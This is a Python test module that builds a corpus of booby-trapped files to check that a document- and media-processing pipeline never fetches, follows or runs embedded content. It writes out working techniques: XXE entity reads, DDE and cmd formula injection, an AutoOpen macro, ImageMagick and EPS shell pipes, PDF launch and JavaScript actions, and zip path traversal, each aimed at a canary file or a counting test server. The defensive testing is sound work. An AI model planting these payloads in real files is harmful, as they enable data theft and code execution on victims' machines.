"""Files that would fetch, follow or run something if anything in them were obeyed.

``address`` is a web server that counts who calls; ``canary`` a file that nobody may open.
"""

from __future__ import annotations

import io
import struct
import wave
from email.message import EmailMessage
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.media.corpus_documents import pdf, saved
from tests.media.corpus_pictures import encoded, quarters
from tests.media.corpus_structures import docx, packed, paragraph

_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_files(folder: Path, address: str, canary: Path) -> list[Path]:
    """Write them all; return their paths."""
    folder.mkdir(parents=True)
    svg_head = "<svg xmlns='http://www.w3.org/2000/svg'>"
    made: dict[str, bytes | str] = {
        "drawing.svg": _svg(address, canary),
        "entity.svg": _entity(canary).replace("<r>", svg_head).replace("</r>", "</svg>"),
        "page.html": _html(address, canary),
        "frame.xhtml": _html(address, canary).replace("<html>", "<html xmlns='http://www.w3.org/1999/xhtml'>"),
        "mail.eml": _mail(address, canary),
        "template.docx": _template(address, canary),
        "macros.docm": _macros(canary),
        "links.xlsx": _sheet(address, canary),
        "actions.pdf": _actions(address, canary),
        "outside.pdf": _outside(address, canary),
        "note.txt": f"<img src='{address}/txt.png'> {address}/txt file://{canary}\n证据",
        "list.m3u8": f"#EXTM3U\n#EXTINF:10,\n{address}/list.ts\nfile://{canary}\n",
        "shortcut.url": f"[InternetShortcut]\nURL={address}/url\nIconFile={address}/icon.ico\n",
        "open me.desktop": f"[Desktop Entry]\nType=Application\nExec=cat {canary}\nIcon={address}/icon.png\n",
        "run.sh": f"#!/bin/sh\ncat {canary}\n",
        "picture.eps": _eps(canary),
        "really-eps.png": _eps(canary),
        "magick.png": f"push graphic-context\nfill 'url({address}/m.png\"|cat {canary}\")'\npop graphic-context\n",
        "metadata.png": _metadata(address),
        "film.mp4": _film(address),
        "sound.wav": _sound(address),
        "pack.zip": packed({"../../evil.html": _html(address, canary), "a.svg": _svg(address, canary), "run.sh": "x"}),
        f"<img src={address.replace('/', '：')}>.png": encoded(quarters(), "PNG"),
    }
    for name, content in made.items():
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return [folder / name for name in made]


def _svg(address: str, canary: Path) -> str:
    return (
        f"<?xml version='1.0'?><?xml-stylesheet href='{address}/svg.css'?>"
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='90'>"
        f"<style>@import url({address}/import.css); @font-face {{font-family:x;src:url({address}/f.woff)}}</style>"
        f"<image href='{address}/svg.png' width='9' height='9'/><image xlink:href='file://{canary}'/>"
        f"<use href='{address}/use.svg#a'/><script href='{address}/svg.js'/><script>fetch('{address}/js')</script>"
        f"<foreignObject><iframe src='{address}/frame'/></foreignObject>"
        f"<a href='{address}/a'><text>证据</text></a></svg>"
    )


def _entity(canary: Path) -> str:
    return f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY e SYSTEM 'file://{canary}'>]><r>&e;</r>"


def _html(address: str, canary: Path) -> str:
    return (
        f"<html><head><meta http-equiv='refresh' content='0;url={address}/refresh'><base href='{address}/'>"
        f"<link rel='stylesheet' href='{address}/h.css'><link rel='preload' href='{address}/p' as='font'>"
        f"<script src='{address}/h.js'></script></head><body onload=\"fetch('{address}/onload')\">"
        f"<img src='{address}/h.png'><img src='file://{canary}'><iframe src='{address}/f'></iframe>"
        f"<video src='{address}/v.mp4' autoplay></video><object data='{address}/o'></object>证据</body></html>"
    )


def _mail(address: str, canary: Path) -> bytes:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.com", "b@example.com", "你好"
    made["Disposition-Notification-To"] = "spy@example.com"
    made.set_content(f"看图 {address}/plain.png")
    made.add_alternative(_html(address, canary), subtype="html")
    made.add_attachment(_svg(address, canary).encode(), maintype="image", subtype="svg+xml", filename="a.svg")
    body = EmailMessage()
    body["Content-Type"] = f'message/external-body; access-type=URL; URL="{address}/body"'
    body.set_payload("")
    made.attach(body)
    return made.as_bytes()


def _rels(**targets: tuple[str, str]) -> str:
    links = "".join(
        f"<Relationship Id='{name}' Type='{_KIND}/{kind}' Target='{target}' TargetMode='External'/>"
        for name, (kind, target) in targets.items()
    )
    return f"<?xml version='1.0'?><Relationships xmlns='{_RELS}'>{links}</Relationships>"


def _template(address: str, canary: Path) -> bytes:
    field = f'<w:instrText>INCLUDEPICTURE "{address}/field.png" DDEAUTO</w:instrText>'
    link = f"<w:p><w:r><w:fldChar w:fldCharType='begin'/>{field}</w:r></w:p>"
    return docx(
        paragraph("投诉") + link,
        **{
            "word/_rels/settings.xml.rels": _rels(t=("attachedTemplate", f"{address}/template.dotm")),
            "word/_rels/document.xml.rels": _rels(
                i=("image", f"{address}/remote.png"), f=("image", f"file://{canary}"), o=("oleObject", f"{address}/ole")
            ),
            "word/settings.xml": _entity(canary),
            "docProps/core.xml": _entity(canary),
        },
    )


def _macros(canary: Path) -> bytes:
    return docx(paragraph("宏"), **{"word/vbaProject.bin": f'Sub AutoOpen\nShell "cat {canary}"\nEnd Sub'})


def _sheet(address: str, canary: Path) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = (
        f"<sheetData><row><c t='str'><f>WEBSERVICE(\"{address}/web\")</f><v>1</v></c>"
        f"<c t='str'><f>cmd|'/c cat {canary}'!A1</f><v>2</v></c>"
        f"<c t='str'><f>HYPERLINK(\"{address}/link\")</f><v>3</v></c></row></sheetData>"
    )
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": f"<workbook xmlns='{main}'><sheets><sheet name='a'/></sheets></workbook>",
            "xl/worksheets/sheet1.xml": f"<worksheet xmlns='{main}'>{cells}</worksheet>",
            "xl/sharedStrings.xml": _entity(canary),
            "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(e=("externalLinkPath", f"{address}/book.xlsx")),
            "xl/connections.xml": f"<connections><connection><webPr url='{address}/query'/></connection></connections>",
        }
    )


def _actions(address: str, canary: Path) -> bytes:
    """Every action there is, on opening, on the page, on links and in a form, and an embedded program."""
    made = pdf()
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{address}/js');"))
    made.Root.OpenAction = script
    made.Root.AA = Dictionary(WC=script, WP=Dictionary(S=Name.Launch, F=String(str(canary))))
    made.Root.URI = Dictionary(Base=String(address))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), script])))
    acts = [
        Dictionary(S=Name.URI, URI=String(f"{address}/uri")),
        Dictionary(S=Name.Launch, F=String("/bin/cat"), Win=Dictionary(F=String("cmd.exe"), P=String(str(canary)))),
        Dictionary(S=Name.GoToR, F=String(str(canary)), D=Array([0, Name.Fit])),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"{address}/submit"))),
        Dictionary(S=Name.ImportData, F=String(str(canary))),
        Dictionary(S=Name.Rendition, JS=String("x")),
        script,
    ]
    page = made.pages[0]
    page.obj.AA = Dictionary(O=script, C=acts[1])
    page.obj.Annots = Array(
        made.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10 + 50 * n, 200, 50 + 50 * n]), A=act)
        )
        for n, act in enumerate(acts)
    )
    field = made.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=Array([0, 0, 9, 9]))
    )
    field.AA = Dictionary(K=script)
    page.obj.Annots.append(field)
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"), CO=Array([field]))
    made.attachments["run.sh"] = b"#!/bin/sh\ncat " + str(canary).encode()
    return saved(made)


def _outside(address: str, canary: Path) -> bytes:
    """Content, pictures and a file that are said to lie elsewhere."""
    made = pdf(1)
    page = made.pages[0]
    elsewhere = Dictionary(FS=Name.URL, F=String(f"{address}/stream"))
    picture = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    picture.ColorSpace, picture.F = Name.DeviceGray, elsewhere
    other = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    other.F = String(str(canary))
    reference = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    reference.Ref = Dictionary(F=elsewhere, Page=0)
    opi = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    opi.OPI = Dictionary({"/2.0": Dictionary(F=elsewhere)})
    page.obj.Resources = Dictionary(XObject=Dictionary(A=picture, B=other, C=reference, D=opi))
    page.obj.Contents = made.make_stream(b"/A Do /B Do /C Do /D Do")
    page.obj.Metadata = made.make_stream(f"<x:xmpmeta xmlns:x='adobe:ns:meta/' u='{address}/xmp'/>".encode())
    return saved(made)


def _eps(canary: Path) -> str:
    head = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
    return f"{head}({canary}) (r) file closefile (%pipe%cat {canary}) (r) file\nshowpage\n%%EOF\n"


def _metadata(address: str) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><a href='{address}/xmp'/></x:xmpmeta>")
    info.add_text("Software", f"<img src='{address}/software.png'>")
    return encoded(quarters(), "PNG", pnginfo=info)


def _atom(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def _film(address: str) -> bytes:
    """A film whose sound is said to lie on the web."""
    where = _atom(b"url ", bytes(4) + f"{address}/film.mp4\0".encode())
    dref = _atom(b"dref", bytes(4) + struct.pack(">I", 1) + where)
    head = _atom(b"mvhd", bytes(12) + struct.pack(">II", 1000, 5000) + bytes(80))
    track = _atom(b"trak", _atom(b"mdia", _atom(b"minf", _atom(b"dinf", dref))))
    return _atom(b"ftyp", b"isom" + bytes(4) + b"isom") + _atom(b"moov", head + track)


def _sound(address: str) -> bytes:
    stored = io.BytesIO()
    with wave.open(stored, "wb") as made:
        made.setparams((1, 1, 8000, 8000, "NONE", ""))
        made.writeframes(bytes(8000))
    comment = f"{address}/sound".encode()
    note = b"INFOICMT" + struct.pack("<I", len(comment)) + comment
    return stored.getvalue() + b"LIST" + struct.pack("<I", len(note)) + note


def forbidden_in(file: Path) -> list[str]:
    """Return what in a PDF could act, fetch or carry a file along."""
    names = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/URI", "/XFA", "/AcroForm", "/EmbeddedFiles", "/EF"}
    names |= {"/Launch", "/Ref", "/OPI", "/RichMediaContent"}
    kinds = {"/URI", "/Launch", "/JavaScript", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/Rendition"}
    found: list[str] = []

    def look(thing: object) -> None:
        if isinstance(thing, pikepdf.Array):
            for one in list(thing):
                if not getattr(one, "is_indirect", False):
                    look(one)
        if not isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
            return
        for name, value in dict(thing.items()).items():
            if name in names or (name == "/S" and str(value) in kinds):
                found.append(f"{name} {value!r}"[:80])
            if name == "/F" and isinstance(thing, pikepdf.Stream):
                found.append(f"a stream elsewhere: {value!r}"[:80])
            if not getattr(value, "is_indirect", False):
                look(value)

    with pikepdf.open(file) as opened:
        for one in opened.objects:
            look(one)
        look(opened.trailer)
    return found
